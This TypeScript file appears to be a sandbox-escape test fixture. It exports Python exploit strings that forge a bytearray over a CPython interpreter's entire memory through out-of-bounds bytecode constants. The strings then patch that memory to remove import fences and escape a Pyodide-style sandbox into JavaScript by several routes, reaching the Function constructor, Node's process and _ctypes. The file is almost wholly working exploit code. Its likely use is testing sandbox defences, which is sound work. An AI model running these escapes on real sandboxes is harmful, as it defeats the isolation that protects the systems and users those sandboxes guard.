/**
 * Python that gives itself all of its interpreter's memory as a `bytearray` named `M`: a constant that is read past the end of its
 * tuple is whatever object a program has laid out there. That is how CPython is, so what comes after it has to hold.
 */
export const FORGED_MEMORY = `
import opcode, struct, sys
words = lambda *given: struct.pack('<%dI' % len(given), *[word & 0xffffffff for word in given])
DATA = bytes.__basicsize__ - 1
fake = words(0x1000, id(bytearray), 0x7fffffff, 0x7fffffff, 0, 0, 0, 0) + bytes(32)
pointers = words(id(fake) + DATA) * 4 + bytes(8)
empty = (None,)
index = ((id(pointers) + DATA - id(empty) - tuple.__basicsize__) // 4) & 0x3fffffff
parts = index.to_bytes(4, 'big')
op = opcode.opmap
def forged(): pass
forged.__code__ = forged.__code__.replace(
    co_code=bytes([op['RESUME'], 0, *[byte for part in parts[:3] for byte in (op['EXTENDED_ARG'], part)], op['LOAD_CONST'], parts[3], op['RETURN_VALUE'], 0]),
    co_consts=empty, co_stacksize=10)
M = forged()
assert type(M) is bytearray and len(M) == 0x7fffffff
def rewrite(before, after):
    at = M.find(before, 0, 0x1000000)
    found = 0
    while at >= 0:
        M[at:at + len(after)] = after
        found += 1
        at = M.find(before, at + 1, 0x1000000)
    return found
def unfenced():
    sys.meta_path[:] = [finder for finder in sys.meta_path if 'Fence' not in repr(type(finder)) and 'Wheels' not in repr(type(finder))]
print('forged', flush=True)
`;

/** From all of the memory to JavaScript: each a way of its own. The last line that one prints is what it got. */
export const WAYS_TO_JAVASCRIPT: readonly { readonly why: string; readonly code: string }[] = [
  {
    why: "the core's name put back, and its arrays",
    code: String.raw`
assert rewrite(b'\xffpyodide_core\0', b'_pyodide_core\0') > 0
unfenced()
import _pyodide_core as core
made = core.to_js([1, 2])
print('GOT', made.constructor.name, flush=True)
print('GOT', made.constructor.constructor('return 1')())`,
  },
  {
    why: "the core's name put back, and the embedder's inspect by an error that is shown",
    code: String.raw`
rewrite(b'\xffpyodide_core\0', b'_pyodide_core\0'); unfenced()
import _pyodide_core as core
array = core.to_js([1])
object_ = array.constructor.constructor.prototype.__proto__.constructor
symbol = object_(object_.getOwnPropertySymbols(array.constructor.prototype)[0]).constructor
show = getattr(symbol, 'for')('nodejs.util.inspect.custom')
def shown(*given): print('GOT', given[2].constructor('return process')().pid)
keep = core.create_proxy(shown)
raise Exception(object_.defineProperty(object_.prototype, show, core.to_js({'value': keep}, dict_converter=object_.fromEntries)))`,
  },
  {
    why: "the core's name put back, and the names of a constructor's parts",
    code: String.raw`
rewrite(b'\xffpyodide_core\0', b'_pyodide_core\0'); unfenced()
import _pyodide_core as core
array = core.to_js([1])
object_ = array.constructor.constructor.prototype.__proto__.constructor
print('GOT', object_.getOwnPropertyNames(array.constructor))`,
  },
  {
    why: "the core's maker called by the name of another built-in module",
    code: String.raw`
rewrite(b'\xffpyodide_core\0', b'_pyodide_core\0'); unfenced()
import _imp, importlib.machinery as machinery
core = _imp.create_builtin(machinery.ModuleSpec('_pyodide_core', None))
_imp.exec_builtin(core)
print('GOT', core.to_js([1]).constructor)`,
  },
  {
    why: "the core's maker written over that of a harmless module",
    code: String.raw`
import _imp, importlib.machinery as machinery
core, other = M.find(b'\xffpyodide_core\0', 0, 0x1000000), M.find(b'\0xxsubtype\0', 0, 0x1000000) + 1
assert core > 0 and other > 0
def found(address):
    at = M.find(words(address), 0, 0x2000000)
    while at >= 0:
        if 0 < int.from_bytes(M[at + 4:at + 8], 'little') < 100_000: yield at
        at = M.find(words(address), at + 1, 0x2000000)
makers = [bytes(M[at + 4:at + 8]) for at in found(core)]
places = list(found(other))
assert makers and places
for into in places: M[into + 4:into + 8] = makers[-1]
made = _imp.create_builtin(machinery.ModuleSpec('xxsubtype', None))
_imp.exec_builtin(made)
print('GOT', made.to_js([1]).constructor)`,
  },
  {
    why: "ctypes' name put back, and a function of the interpreter's called",
    code: String.raw`
rewrite(b'\xffctypes\0', b'_ctypes\0'); unfenced()
import _ctypes
print('GOT', _ctypes.call_function(1, (1,)))`,
  },
  {
    why: "a bridge made of bare memory",
    code: `
proxy = next((kind for kind in object.__subclasses__() if kind.__name__ == 'JsProxy'), None)
if proxy is None:
    import gc
    proxy = next(kind for kind in gc.get_objects() if isinstance(kind, type) and kind.__name__ == 'JsProxy')
for reference in range(0, 64):
    bare = words(0x1000, id(proxy), 0, 0, 0, reference, reference, reference, reference, 0, 0, 0) + bytes(64)
    held = words(id(bare) + DATA) * 4 + bytes(8)
    index = ((id(held) + DATA - id(empty) - tuple.__basicsize__) // 4) & 0x3fffffff
    parts = index.to_bytes(4, 'big')
    def bridge(): pass
    bridge.__code__ = bridge.__code__.replace(
        co_code=bytes([op['RESUME'], 0, *[byte for part in parts[:3] for byte in (op['EXTENDED_ARG'], part)], op['LOAD_CONST'], parts[3], op['RETURN_VALUE'], 0]),
        co_consts=empty, co_stacksize=10)
    print('GOT', bridge().constructor)`,
  },
];
